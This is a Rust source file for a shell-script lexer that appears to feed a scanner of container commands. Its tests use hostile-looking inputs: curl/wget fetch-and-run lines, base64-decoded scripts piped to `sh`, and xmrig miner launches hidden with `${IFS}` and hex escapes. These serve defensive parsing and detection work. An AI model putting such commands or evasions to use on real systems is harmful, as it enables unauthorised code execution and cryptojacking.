//! A small, forgiving POSIX-shell lexer: enough to split `sh -c` scripts into pipelines of
//! simple commands (quotes, escapes, `$'...'`, `&&`, `||`, `;`, `|`, `&`, newlines, comments,
//! redirections, here-strings and here-documents), to expand parameters the script can know
//! (`$VAR`, `${VAR}`, `${VAR:-word}` from the container's literal environment, the script's
//! own assignments, `$0`..`$9` and `$@` from the words after `sh -c SCRIPT`, `$IFS`), and to
//! pull out command substitutions (`$(...)`, backticks, `<(...)`) for recursive analysis.
//! It never fails: malformed input gives best-effort words.

/// One word of a simple command, quotes removed, parameters expanded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct ShellWord {
    pub text: String,
    /// The word is fed to the command's standard input (`<<< word` or a here-document).
    pub here_string: bool,
}

/// A simple command: its words in order.
pub(crate) type SimpleCommand = Vec<ShellWord>;
/// Commands joined by `|`.
pub(crate) type Pipeline = Vec<SimpleCommand>;

#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Script {
    pub pipelines: Vec<Pipeline>,
    /// Bodies of command substitutions, to be parsed as scripts of their own.
    pub nested: Vec<String>,
    /// Parameter expansion stopped at the budget (the rest was left unexpanded).
    pub expansion_cut: bool,
}

/// What a script can know of its parameters.
pub(crate) trait Vars {
    fn get(&self, name: &str) -> Option<&str>;
}

/// No parameters known.
pub(crate) struct NoVars;

impl Vars for NoVars {
    fn get(&self, _: &str) -> Option<&str> {
        None
    }
}

/// Most command substitutions kept per script (the rest are ignored).
const MAX_NESTED: usize = 64;
/// Most bytes parameter expansion may add to one script (`A=$A$A` doubling stops here).
pub(crate) const MAX_EXPANSION: usize = 256 * 1024;

struct Lexer<'s, 'v> {
    b: &'s [u8],
    vars: &'v dyn Vars,
    /// Assignments made by the script itself, latest last.
    local: Vec<(String, String)>,
    expanded: usize,
    word: Vec<u8>,
    in_word: bool,
    here_next: bool,
    cmd: SimpleCommand,
    pipe: Pipeline,
    out: Script,
    /// Here-documents announced on the current line: (delimiter, strip tabs, expand,
    /// pipeline index, command index) of the command they feed.
    heredocs: Vec<(String, bool, bool, usize, usize)>,
}

fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_name_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

impl Lexer<'_, '_> {
    fn lookup(&self, name: &str) -> Option<String> {
        if let Some((_, v)) = self.local.iter().rev().find(|(n, _)| n == name) {
            return Some(v.clone());
        }
        if let Some(v) = self.vars.get(name) {
            return Some(v.to_string());
        }
        match name {
            "IFS" => Some(" ".into()),
            _ => None,
        }
    }

    fn finish_word(&mut self) {
        if self.in_word {
            let text = String::from_utf8_lossy(&self.word).into_owned();
            self.cmd.push(ShellWord {
                text,
                here_string: self.here_next,
            });
            self.here_next = false;
        }
        self.word.clear();
        self.in_word = false;
    }

    fn end_command(&mut self) {
        self.finish_word();
        if !self.cmd.is_empty() {
            self.record_assignments();
            self.pipe.push(std::mem::take(&mut self.cmd));
        }
    }

    /// `NAME=value` words at the start of a command (or after `export`/`readonly`/...)
    /// set a variable for the rest of the script.
    fn record_assignments(&mut self) {
        let mut words = self.cmd.iter();
        let mut first = true;
        for w in words.by_ref() {
            let t = w.text.as_str();
            if first
                && matches!(
                    t,
                    "export" | "readonly" | "declare" | "typeset" | "local" | "set"
                )
            {
                first = false;
                continue;
            }
            first = false;
            let Some(eq) = t.find('=') else { break };
            let name = &t[..eq];
            if name.is_empty()
                || !is_name_start(name.as_bytes()[0])
                || !name.bytes().all(is_name_char)
            {
                break;
            }
            self.local.push((name.to_string(), t[eq + 1..].to_string()));
        }
    }

    fn end_pipeline(&mut self) {
        self.end_command();
        if !self.pipe.is_empty() {
            self.out.pipelines.push(std::mem::take(&mut self.pipe));
        }
    }

    fn push_nested(&mut self, start: usize, end: usize) {
        if self.out.nested.len() < MAX_NESTED && start < end {
            self.out
                .nested
                .push(String::from_utf8_lossy(&self.b[start..end]).into_owned());
        }
    }

    /// `i` is just after an opening `(`; returns the index of the matching `)` (or the end).
    fn matching_paren(&self, mut i: usize) -> usize {
        let mut depth = 1usize;
        while i < self.b.len() {
            match self.b[i] {
                b'\\' => i += 1,
                b'\'' => {
                    i += 1;
                    while i < self.b.len() && self.b[i] != b'\'' {
                        i += 1;
                    }
                }
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return i;
                    }
                }
                _ => {}
            }
            i += 1;
        }
        self.b.len()
    }

    /// `i` is just after an opening backtick; returns the index of the closing one (or the end).
    fn closing_backtick(&self, mut i: usize) -> usize {
        while i < self.b.len() {
            match self.b[i] {
                b'\\' => i += 1,
                b'`' => return i,
                _ => {}
            }
            i += 1;
        }
        self.b.len()
    }

    /// Copies a `$(...)` or `` `...` `` starting at `i` into the current word, records its body,
    /// and returns the index after it. Returns `None` if there is none at `i`.
    fn substitution(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        if b[i] == b'$' && b.get(i + 1) == Some(&b'(') {
            let close = self.matching_paren(i + 2);
            self.push_nested(i + 2, close);
            let end = (close + 1).min(b.len());
            self.word.extend_from_slice(&b[i..end]);
            self.in_word = true;
            return Some(end);
        }
        if b[i] == b'`' {
            let close = self.closing_backtick(i + 1);
            self.push_nested(i + 1, close);
            let end = (close + 1).min(b.len());
            self.word.extend_from_slice(&b[i..end]);
            self.in_word = true;
            return Some(end);
        }
        None
    }

    /// Adds an expansion's value to the current word: as is inside double quotes, split on
    /// blanks outside them. Returns false (nothing added) when the budget is spent.
    fn insert_value(&mut self, value: &str, quoted: bool) -> bool {
        if self.expanded + value.len() > MAX_EXPANSION {
            self.out.expansion_cut = true;
            return false;
        }
        self.expanded += value.len();
        if quoted {
            self.word.extend_from_slice(value.as_bytes());
            self.in_word = true;
        } else {
            for &c in value.as_bytes() {
                if matches!(c, b' ' | b'\t' | b'\n') {
                    self.finish_word();
                } else {
                    self.word.push(c);
                    self.in_word = true;
                }
            }
        }
        true
    }

    /// A parameter expansion at `i` (`$NAME`, `${...}`, `$0`..`$9`, `$@`, `$*`). Returns the
    /// index after it when it was handled (expanded, or known to be unknowable and copied).
    fn parameter(&mut self, i: usize, quoted: bool) -> Option<usize> {
        let b = self.b;
        let next = *b.get(i + 1)?;
        if next == b'{' {
            let close = b[i + 2..].iter().position(|&c| c == b'}')? + i + 2;
            let body = String::from_utf8_lossy(&b[i + 2..close]).into_owned();
            let name_end = body
                .bytes()
                .position(|c| !is_name_char(c))
                .unwrap_or(body.len());
            let (name, rest) = body.split_at(name_end);
            let value = match rest {
                "" => self.lookup(name),
                _ => {
                    let (op, word) = if let Some(w) = rest.strip_prefix(":-") {
                        (":-", w)
                    } else if let Some(w) = rest.strip_prefix(":=") {
                        (":=", w)
                    } else if let Some(w) = rest.strip_prefix('-') {
                        ("-", w)
                    } else if let Some(w) = rest.strip_prefix('=') {
                        ("=", w)
                    } else {
                        ("?", "")
                    };
                    match op {
                        ":-" | ":=" => Some(
                            self.lookup(name)
                                .filter(|v| !v.is_empty())
                                .unwrap_or_else(|| word.to_string()),
                        ),
                        "-" | "=" => Some(self.lookup(name).unwrap_or_else(|| word.to_string())),
                        _ => None,
                    }
                }
            };
            return match value {
                Some(v) if self.insert_value(&v, quoted) => Some(close + 1),
                _ => None,
            };
        }
        if next.is_ascii_digit() || matches!(next, b'@' | b'*') {
            let name = (next as char).to_string();
            let v = self.lookup(&name).unwrap_or_default();
            return self.insert_value(&v, quoted).then_some(i + 2);
        }
        if is_name_start(next) {
            let end = b[i + 1..]
                .iter()
                .position(|&c| !is_name_char(c))
                .map_or(b.len(), |p| p + i + 1);
            let name = String::from_utf8_lossy(&b[i + 1..end]).into_owned();
            let v = self.lookup(&name)?;
            return self.insert_value(&v, quoted).then_some(end);
        }
        None
    }

    /// `$'...'` (ANSI-C quoting) starting at `i`: its decoded text joins the word.
    fn ansi_c(&mut self, i: usize) -> usize {
        let b = self.b;
        let mut j = i + 2;
        self.in_word = true;
        while j < b.len() && b[j] != b'\'' {
            if b[j] == b'\\' && j + 1 < b.len() {
                let (bytes, used) = decode_escape(&b[j + 1..]);
                self.word.extend_from_slice(&bytes);
                j += 1 + used;
            } else {
                self.word.push(b[j]);
                j += 1;
            }
        }
        j + 1
    }

    /// `<<DELIM` / `<<-DELIM` / `<<'DELIM'` at `i`: announces a here-document; returns the
    /// index after the delimiter word.
    fn heredoc(&mut self, i: usize) -> usize {
        let b = self.b;
        let mut j = i + 2;
        let strip = b.get(j) == Some(&b'-');
        if strip {
            j += 1;
        }
        while j < b.len() && matches!(b[j], b' ' | b'\t') {
            j += 1;
        }
        let mut delim = Vec::new();
        let mut quoted = false;
        while j < b.len()
            && !matches!(
                b[j],
                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>'
            )
        {
            match b[j] {
                b'\'' | b'"' | b'\\' => quoted = true,
                c => delim.push(c),
            }
            j += 1;
        }
        self.finish_word();
        if !delim.is_empty() {
            self.heredocs.push((
                String::from_utf8_lossy(&delim).into_owned(),
                strip,
                !quoted,
                self.out.pipelines.len(),
                self.pipe.len(),
            ));
        }
        j
    }

    /// Reads the bodies of the announced here-documents starting at `i` (just after a
    /// newline); returns the index after the last delimiter line.
    fn heredoc_bodies(&mut self, mut i: usize) -> usize {
        let docs = std::mem::take(&mut self.heredocs);
        for (delim, strip, expand, p, c) in docs {
            let mut body = String::new();
            while i < self.b.len() {
                let end = self.b[i..]
                    .iter()
                    .position(|&c| c == b'\n')
                    .map_or(self.b.len(), |e| i + e);
                let mut line = String::from_utf8_lossy(&self.b[i..end]).into_owned();
                if strip {
                    line = line.trim_start_matches('\t').to_string();
                }
                i = (end + 1).min(self.b.len());
                if line == delim {
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            if expand {
                body = self.expand_text(&body);
            }
            let word = ShellWord {
                text: body,
                here_string: true,
            };
            if let Some(cmd) = self.out.pipelines.get_mut(p).and_then(|pl| pl.get_mut(c)) {
                cmd.push(word);
            } else {
                self.out.pipelines.push(vec![vec![word]]);
            }
        }
        i
    }

    /// Parameter expansion and substitution bodies of a here-document with an unquoted
    /// delimiter.
    fn expand_text(&mut self, text: &str) -> String {
        let mut sub = Lexer {
            b: text.as_bytes(),
            vars: self.vars,
            local: self.local.clone(),
            expanded: self.expanded,
            word: Vec::new(),
            in_word: false,
            here_next: false,
            cmd: Vec::new(),
            pipe: Vec::new(),
            out: Script::default(),
            heredocs: Vec::new(),
        };
        let mut out = Vec::with_capacity(text.len());
        let b = text.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'$' && b.get(i + 1) == Some(&b'(') {
                let close = sub.matching_paren(i + 2);
                sub.push_nested(i + 2, close);
                let end = (close + 1).min(b.len());
                out.extend_from_slice(&b[i..end]);
                i = end;
                continue;
            }
            if b[i] == b'$' {
                sub.word.clear();
                if let Some(next) = sub.parameter(i, true) {
                    out.extend_from_slice(&sub.word);
                    i = next;
                    continue;
                }
            }
            out.push(b[i]);
            i += 1;
        }
        self.expanded = sub.expanded;
        self.out.expansion_cut |= sub.out.expansion_cut;
        for n in sub.out.nested {
            if self.out.nested.len() < MAX_NESTED {
                self.out.nested.push(n);
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }

    fn run(mut self) -> Script {
        let b = self.b;
        let mut i = 0;
        while i < b.len() {
            let c = b[i];
            match c {
                b' ' | b'\t' | b'\r' => {
                    self.finish_word();
                    i += 1;
                }
                b'\n' => {
                    self.end_pipeline();
                    i += 1;
                    if !self.heredocs.is_empty() {
                        i = self.heredoc_bodies(i);
                    }
                }
                b'#' if !self.in_word => {
                    while i < b.len() && b[i] != b'\n' {
                        i += 1;
                    }
                }
                b'\'' => {
                    self.in_word = true;
                    i += 1;
                    while i < b.len() && b[i] != b'\'' {
                        self.word.push(b[i]);
                        i += 1;
                    }
                    i += 1;
                }
                b'"' => {
                    self.in_word = true;
                    i += 1;
                    while i < b.len() && b[i] != b'"' {
                        if b[i] == b'\\' && matches!(b.get(i + 1), Some(b'"' | b'\\' | b'$' | b'`'))
                        {
                            self.word.push(b[i + 1]);
                            i += 2;
                        } else if b[i] == b'\\' && b.get(i + 1) == Some(&b'\n') {
                            i += 2;
                        } else if let Some(next) = self.substitution(i) {
                            i = next;
                        } else if b[i] == b'$'
                            && let Some(next) = self.parameter(i, true)
                        {
                            i = next;
                        } else {
                            self.word.push(b[i]);
                            i += 1;
                        }
                    }
                    i += 1;
                }
                b'\\' => {
                    match b.get(i + 1) {
                        Some(b'\n') => {}
                        Some(&n) => {
                            self.word.push(n);
                            self.in_word = true;
                        }
                        None => {}
                    }
                    i += 2;
                }
                b'$' if b.get(i + 1) == Some(&b'\'') => {
                    i = self.ansi_c(i);
                }
                b'$' | b'`' => {
                    if let Some(next) = self.substitution(i) {
                        i = next;
                    } else if c == b'$'
                        && let Some(next) = self.parameter(i, false)
                    {
                        i = next;
                    } else {
                        self.word.push(c);
                        self.in_word = true;
                        i += 1;
                    }
                }
                b';' => {
                    self.end_pipeline();
                    i += 1;
                }
                b'&' => match b.get(i + 1) {
                    Some(b'&') => {
                        self.end_pipeline();
                        i += 2;
                    }
                    Some(b'>') => {
                        self.finish_word();
                        i += 2;
                    }
                    _ => {
                        self.end_pipeline();
                        i += 1;
                    }
                },
                b'|' => {
                    if b.get(i + 1) == Some(&b'|') {
                        self.end_pipeline();
                        i += 2;
                    } else {
                        self.end_command();
                        i += 1;
                    }
                }
                b'(' | b')' if !self.in_word => {
                    self.end_pipeline();
                    i += 1;
                }
                b'<' => {
                    if b.get(i + 1) == Some(&b'(') {
                        // process substitution: <(cmd)
                        self.finish_word();
                        let close = self.matching_paren(i + 2);
                        self.push_nested(i + 2, close);
                        i = close + 1;
                    } else if b[i..].starts_with(b"<<<") {
                        self.finish_word();
                        self.here_next = true;
                        i += 3;
                    } else if b[i..].starts_with(b"<<") {
                        i = self.heredoc(i);
                    } else {
                        self.finish_word();
                        i += 1;
                    }
                }
                b'>' => {
                    // `2>` / `1>`: the fd number is not a word
                    if self.in_word && self.word.iter().all(u8::is_ascii_digit) {
                        self.word.clear();
                        self.in_word = false;
                    }
                    self.finish_word();
                    i += 1;
                    let mut dup = false;
                    while i < b.len() && matches!(b[i], b'>' | b'&' | b'|') {
                        dup |= b[i] == b'&';
                        i += 1;
                    }
                    // `>&2`, `2>&1`, `>&-`: the target is a file descriptor, not a word
                    if dup {
                        while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'-') {
                            i += 1;
                        }
                    }
                }
                _ => {
                    self.word.push(c);
                    self.in_word = true;
                    i += 1;
                }
            }
        }
        self.end_pipeline();
        if !self.heredocs.is_empty() {
            // here-document announced on the last line: no body follows
            self.heredocs.clear();
        }
        self.out
    }
}

/// Decodes one backslash escape (the bytes after the backslash) as `$'...'`, `printf` and
/// `echo -e` do: `\n`, `\t`, `\xHH`, `\NNN` / `\0NNN` (octal), `\uHHHH`, `\UHHHHHHHH`, `\e`,
/// `\cX`. Returns the bytes and how many input bytes were used.
pub(crate) fn decode_escape(s: &[u8]) -> (Vec<u8>, usize) {
    let Some(&c) = s.first() else {
        return (b"\\".to_vec(), 0);
    };
    let hex_run = |from: usize, max: usize| {
        let digits = s[from..]
            .iter()
            .take(max)
            .take_while(|b| b.is_ascii_hexdigit())
            .count();
        let v = std::str::from_utf8(&s[from..from + digits])
            .ok()
            .and_then(|h| u32::from_str_radix(h, 16).ok());
        (v, digits)
    };
    match c {
        b'n' => (b"\n".to_vec(), 1),
        b't' => (b"\t".to_vec(), 1),
        b'r' => (b"\r".to_vec(), 1),
        b'a' => (vec![7], 1),
        b'b' => (vec![8], 1),
        b'e' | b'E' => (vec![27], 1),
        b'f' => (vec![12], 1),
        b'v' => (vec![11], 1),
        b'\\' | b'\'' | b'"' | b'?' => (vec![c], 1),
        b'x' => match hex_run(1, 2) {
            (Some(v), n) if n > 0 => (vec![v as u8], 1 + n),
            _ => (b"\\x".to_vec(), 1),
        },
        b'u' | b'U' => {
            let max = if c == b'u' { 4 } else { 8 };
            match hex_run(1, max) {
                (Some(v), n) if n > 0 => {
                    let ch = char::from_u32(v).unwrap_or('\u{fffd}');
                    (ch.to_string().into_bytes(), 1 + n)
                }
                _ => (vec![b'\\', c], 1),
            }
        }
        b'0'..=b'7' => {
            // `\0NNN` (echo -e) or `\NNN` ($'...', printf)
            let start =
                usize::from(c == b'0' && s.get(1).is_some_and(|d| (b'0'..=b'7').contains(d)));
            let digits = s[start..]
                .iter()
                .take(3)
                .take_while(|d| (b'0'..=b'7').contains(*d))
                .count();
            let v = s[start..start + digits]
                .iter()
                .fold(0u32, |acc, d| acc * 8 + u32::from(d - b'0'));
            (vec![(v & 0xff) as u8], start + digits)
        }
        b'c' => match s.get(1) {
            Some(&x) => (vec![x & 0x1f], 2),
            None => (b"\\c".to_vec(), 1),
        },
        other => (vec![b'\\', other], 1),
    }
}

/// Split a shell script into pipelines of simple commands, expanding the parameters `vars`
/// knows.
pub(crate) fn parse_with(script: &str, vars: &dyn Vars) -> Script {
    Lexer {
        b: script.as_bytes(),
        vars,
        local: Vec::new(),
        expanded: 0,
        word: Vec::new(),
        in_word: false,
        here_next: false,
        cmd: Vec::new(),
        pipe: Vec::new(),
        out: Script::default(),
        heredocs: Vec::new(),
    }
    .run()
}

/// Split a shell script into pipelines of simple commands (no parameters known).
#[cfg(test)]
pub(crate) fn parse(script: &str) -> Script {
    parse_with(script, &NoVars)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    struct Map(Vec<(&'static str, &'static str)>);
    impl Vars for Map {
        fn get(&self, name: &str) -> Option<&str> {
            self.0.iter().find(|(n, _)| *n == name).map(|(_, v)| *v)
        }
    }

    fn words(script: &Script) -> Vec<Vec<Vec<&str>>> {
        script
            .pipelines
            .iter()
            .map(|p| {
                p.iter()
                    .map(|c| c.iter().map(|w| w.text.as_str()).collect())
                    .collect()
            })
            .collect()
    }

    #[test]
    fn operators_split_commands_and_pipelines() {
        let s = parse(
            "apt-get update && apt-get install -y wget; ./t-rex -a kawpow | tee log & sleep 1 || true",
        );
        assert_eq!(
            words(&s),
            vec![
                vec![vec!["apt-get", "update"]],
                vec![vec!["apt-get", "install", "-y", "wget"]],
                vec![vec!["./t-rex", "-a", "kawpow"], vec!["tee", "log"]],
                vec![vec!["sleep", "1"]],
                vec![vec!["true"]],
            ]
        );
    }

    #[test]
    fn quotes_and_escapes() {
        let s = parse(
            r#"echo 'a b' "c \"d\" $HOME" e\ f # comment here
next"#,
        );
        assert_eq!(
            words(&s),
            vec![
                vec![vec!["echo", "a b", "c \"d\" $HOME", "e f"]],
                vec![vec!["next"]]
            ]
        );
    }

    #[test]
    fn substitutions_are_collected() {
        let s = parse(
            "sh -c \"$(echo aGk= | base64 -d)\"; x=`curl -s http://h/x`; bash <(wget -O- http://h/y)",
        );
        assert_eq!(
            s.nested,
            vec![
                "echo aGk= | base64 -d",
                "curl -s http://h/x",
                "wget -O- http://h/y"
            ]
        );
        assert_eq!(s.pipelines[0][0][2].text, "$(echo aGk= | base64 -d)");
    }

    #[test]
    fn redirections_and_here_strings() {
        let s = parse("base64 -d <<< aGVsbG8= > /tmp/x 2>/dev/null 2>&1 >&2");
        let cmd = &s.pipelines[0][0];
        let texts: Vec<&str> = cmd.iter().map(|w| w.text.as_str()).collect();
        assert_eq!(texts, ["base64", "-d", "aGVsbG8=", "/tmp/x", "/dev/null"]);
        assert!(cmd[2].here_string);
        assert!(!cmd[3].here_string);
    }

    #[test]
    fn parameters_from_env_assignments_and_positional_words() {
        let env = Map(vec![
            ("POOL", "pool.example:3333"),
            ("B", "xm"),
            ("ARGS", "-o p:1 -u w"),
            ("0", "/tmp/xmrig"),
            ("@", "--donate-level 1"),
        ]);
        let s = parse_with(
            "R=rig; ./$B$R -o $POOL ${ARGS} \"$POOL\" ${MISSING:-dflt} ${POOL:-x} $UNKNOWN; exec \"$0\" $@",
            &env,
        );
        assert_eq!(
            words(&s),
            vec![
                vec![vec!["R=rig"]],
                vec![vec![
                    "./xmrig",
                    "-o",
                    "pool.example:3333",
                    "-o",
                    "p:1",
                    "-u",
                    "w",
                    "pool.example:3333",
                    "dflt",
                    "pool.example:3333",
                    "$UNKNOWN"
                ]],
                vec![vec!["exec", "/tmp/xmrig", "--donate-level", "1"]],
            ]
        );
        // ${IFS} splits words (a common evasion)
        let s = parse("xmrig${IFS}-o${IFS}pool.example:3333");
        assert_eq!(
            words(&s),
            vec![vec![vec!["xmrig", "-o", "pool.example:3333"]]]
        );
        // export and quoted values
        let s = parse("export P=\"a b\"; run $P \"$P\"");
        assert_eq!(words(&s)[1], vec![vec!["run", "a", "b", "a b"]]);
    }

    #[test]
    fn expansion_is_bounded() {
        let mut script = String::from("A=xxxxxxxxxxxxxxxx; ");
        for _ in 0..40 {
            script.push_str("A=$A$A; ");
        }
        script.push_str("echo $A");
        let s = parse(&script);
        assert!(s.expansion_cut);
        let total: usize = s
            .pipelines
            .iter()
            .flatten()
            .flatten()
            .map(|w| w.text.len())
            .sum();
        assert!(total <= 3 * MAX_EXPANSION, "{total}");
    }

    #[test]
    fn ansi_c_quoting_and_escapes() {
        let s = parse(r"$'\x2e\x2f\x78\x6d\x72\x69\x67' $'\056\057a\tb' $'it\'s'");
        assert_eq!(words(&s), vec![vec![vec!["./xmrig", "./a\tb", "it's"]]]);
        assert_eq!(decode_escape(b"0101"), (b"A".to_vec(), 4));
        assert_eq!(decode_escape(b"101"), (b"A".to_vec(), 3));
        assert_eq!(decode_escape(b"u00e9"), ("é".as_bytes().to_vec(), 5));
    }

    #[test]
    fn here_documents_feed_their_command() {
        let s = parse(
            "base64 -d <<EOF | sh\nZWNobyBoaQ==\nEOF\ncat <<-'X' > /tmp/a\n\t$HOME\n\tX\necho done\n",
        );
        let w = words(&s);
        assert_eq!(w[0][0], vec!["base64", "-d", "ZWNobyBoaQ==\n"]);
        assert!(s.pipelines[0][0][2].here_string);
        assert_eq!(w[0][1], vec!["sh"]);
        assert_eq!(w[1][0], vec!["cat", "/tmp/a", "$HOME\n"]);
        assert_eq!(w[2][0], vec!["echo", "done"]);
        let env = Map(vec![("P", "pool.example:3333")]);
        let s = parse_with("sh <<EOF\n./x -o $P\nEOF\n", &env);
        assert_eq!(s.pipelines[0][0][1].text, "./x -o pool.example:3333\n");
    }

    #[test]
    fn malformed_input_does_not_panic() {
        for s in [
            "'unterminated",
            "\"open $(x",
            "`tick",
            "\\",
            "a |",
            "&&&;;|",
            "$(",
            "<(",
            "é ü 'ß'",
            "${",
            "${A:-",
            "$'\\x",
            "<<",
            "<<E\nno end",
            "$",
            "\"$",
            "\"${X}",
        ] {
            let _ = parse(s);
        }
        assert_eq!(words(&parse("é 'ü'")), vec![vec![vec!["é", "ü"]]]);
    }

    /// Quote a word so the shell reads it back as exactly that word.
    fn quote(w: &str) -> String {
        format!("'{}'", w.replace('\'', "'\\''"))
    }

    proptest! {
        /// Any text lexes without panic, in time linear-ish in its length.
        #[test]
        fn prop_lexes_anything(s in "\\PC{0,300}") {
            let start = std::time::Instant::now();
            let _ = parse(&s);
            prop_assert!(start.elapsed() < std::time::Duration::from_secs(1));
        }

        /// Shell-like noise built from the lexer's own metacharacters.
        #[test]
        fn prop_lexes_metacharacter_soup(parts in proptest::collection::vec(
            prop_oneof![
                Just("$("), Just(")"), Just("`"), Just("'"), Just("\""), Just("\\"),
                Just("${"), Just("}"), Just("$'"), Just("<<"), Just("<<<"), Just("|"),
                Just("&&"), Just(";"), Just("\n"), Just(" "), Just("a"), Just("EOF"),
                Just("$A"), Just("A=$A$A"), Just(">"), Just("2>&1"), Just("#"),
            ], 0..60)) {
            let s: String = parts.concat();
            let _ = parse(&s);
        }

        /// Words quoted and joined come back as the same words.
        #[test]
        fn prop_quoted_words_round_trip(ws in proptest::collection::vec("\\PC{1,12}", 1..8)) {
            let script = ws.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ");
            let s = parse(&script);
            prop_assert_eq!(s.pipelines.len(), 1);
            let got: Vec<&str> = s.pipelines[0][0].iter().map(|w| w.text.as_str()).collect();
            prop_assert_eq!(got, ws.iter().map(String::as_str).collect::<Vec<_>>());
        }
    }
}
